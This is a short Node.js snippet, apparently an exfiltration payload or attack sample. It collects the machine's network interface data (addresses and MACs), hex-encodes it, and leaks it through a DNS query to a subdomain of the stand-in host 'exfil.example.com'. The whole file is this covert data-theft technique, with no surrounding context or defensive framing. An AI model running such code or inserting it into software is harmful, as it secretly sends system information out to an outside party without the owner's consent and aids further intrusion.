const os = require('os');
const data = JSON.stringify(os.networkInterfaces());
require('dns').resolve(Buffer.from(data).toString('hex').slice(0, 60) + '.exfil.example.com', () => {});
